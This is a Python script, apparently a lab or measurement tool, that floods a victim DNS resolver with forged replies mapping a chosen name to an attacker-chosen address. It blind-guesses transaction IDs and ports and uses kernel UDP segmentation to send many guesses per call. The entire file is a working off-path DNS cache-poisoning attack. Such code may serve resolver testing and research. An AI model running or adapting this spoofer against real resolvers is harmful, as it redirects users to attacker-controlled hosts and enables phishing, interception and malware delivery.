"""Sends forged DNS replies as fast as it can: address, then what to forge, for so many seconds.

It is bound to the address and port of a server that never answers; it does not hear the questions
and guesses port and ID, as somebody far away would. It prints how many it sent.
"""

import random
import socket
import sys
import time

from dnslib import QTYPE, RR, A, DNSHeader, DNSQuestion, DNSRecord

_UDP_SEGMENT = 103
_AT_ONCE = 60


def main(at: str, victim: str, name: str, forged: str, seconds: str) -> None:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((at, 53))
    reply = DNSRecord(DNSHeader(id=0, qr=1, ra=1, rd=1), q=DNSQuestion(name))
    reply.add_answer(RR(name, QTYPE.A, ttl=3600, rdata=A(forged)))
    tail = reply.pack()[2:]
    # The kernel cuts one message into datagrams of this size: many guesses for one system call.
    sock.setsockopt(socket.IPPROTO_UDP, _UDP_SEGMENT, 2 + len(tail))
    print("begins", flush=True)
    end = time.monotonic() + float(seconds)
    sent = 0
    send, draw = sock.sendto, random.Random(1)
    while time.monotonic() < end:
        first = draw.randrange(65536)
        guesses = b"".join(((first + n) & 0xFFFF).to_bytes(2) + tail for n in range(_AT_ONCE))
        for _ in range(16):
            send(guesses, (victim, draw.randrange(1024, 65536)))
        sent += 16 * _AT_ONCE
    print(sent, flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
